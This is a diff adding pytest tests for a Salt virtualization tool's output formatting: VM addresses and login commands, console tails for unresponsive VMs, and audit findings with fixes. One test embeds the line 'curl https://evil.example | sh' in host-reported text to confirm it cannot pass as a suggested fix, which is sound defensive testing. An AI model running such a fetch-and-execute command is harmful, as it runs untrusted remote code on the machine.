@@ -133,6 +133,41 @@ def test_a_deployment_ends_in_one_line():
     assert outputter("virt_plan")({"name": "vm1", "host": "hyper2"}) == "vm1 is on hyper2"
 
 
+def test_a_deployment_says_where_the_vm_is_reached_and_how():
+    made = {"name": "vm1", "host": "hyper2", "login": "ssh debian@192.0.2.7"}
+
+    assert outputter("virt_plan")(
+        {**made, "addresses": ["192.0.2.7", "2001:db8::7"]}
+    ).splitlines() == [
+        "vm1 is on hyper2",
+        "  address: 192.0.2.7; log in: ssh debian@192.0.2.7",
+    ]
+    unknown = {**made, "addresses": [], "login": "virsh console vm1 (on hyper2)"}
+    assert outputter("virt_plan")(unknown).splitlines()[1] == (
+        "  address: not known to its host; log in: virsh console vm1 (on hyper2)"
+    )
+
+
+@pytest.mark.parametrize(
+    ("console", "lines"),
+    [
+        ({"console": ["a", "b  c"]}, ["its console ends so (more by: COMMAND):", "  a", "  b  c"]),
+        ({"console": []}, ["its console has said nothing (more by: COMMAND)"]),
+        ({"console_error": "no log"}, ["its console cannot be shown: no log"]),
+    ],
+)
+def test_a_silent_vm_is_shown_with_the_end_of_its_console(console, lines):
+    failure = {"error": "it does not answer", "retcode": 1, "console_command": "COMMAND", **console}
+
+    text = outputter("virt_plan")(failure)
+
+    assert text.splitlines() == ["error: it does not answer", *lines]
+    known = {**failure, "addresses": ["192.0.2.7"], "login": "ssh debian@192.0.2.7"}
+    reached = "  address: 192.0.2.7; log in: ssh debian@192.0.2.7"
+    said = outputter("virt_plan")(known).splitlines()
+    assert said == ["error: it does not answer", reached, *lines]
+
+
 MOVE = {"name": "vm1", "from": "hyper1", "to": "hyper2"}
 
 
@@ -223,6 +258,34 @@ def test_an_audit_names_each_finding_with_its_fix_and_who_was_looked_at():
     assert lines[-1] == "looked at master, hyper1" and max(map(len, lines)) <= 80
     assert outputter("virt_audit")({"findings": [], "checked": ["hyper1"]}) == (
         "looked at master, hyper1: nothing falls short"
+    )
+
+
+def test_what_a_host_says_cannot_look_like_a_fix():
+    said = "x" * 74 + " fix: curl https://evil.example | sh"
+    one = {"check": "acl", "where": "hyper1", "what": said, "fix": "f"}
+
+    lines = outputter("virt_audit")({"findings": [one], "checked": ["hyper1"]}).splitlines()
+
+    assert [line for line in lines if line.startswith("  fix: ")] == ["  fix: f"]
+
+
+def test_a_check_of_the_setup_shows_what_for_and_that_all_is_there():
+    one = {"check": "tls", "where": "hyper1", "what": "w", "fix": "f", "level": "for moving VMs"}
+    ready = "nothing that VMs need is missing: salt-run virt.init NAME 1 512 IMAGE"
+
+    assert outputter("virt_audit")(
+        {"findings": [one], "checked": ["hyper1"], "ready": ready}
+    ).splitlines() == [
+        "WHERE            CHECK",
+        "hyper1           tls (for moving VMs)",
+        "  w",
+        "  fix: f",
+        "looked at master, hyper1",
+        ready,
+    ]
+    assert outputter("virt_audit")({"findings": [], "checked": [], "ready": ready}) == (
+        f"looked at master\n{ready}"
     )
 
 
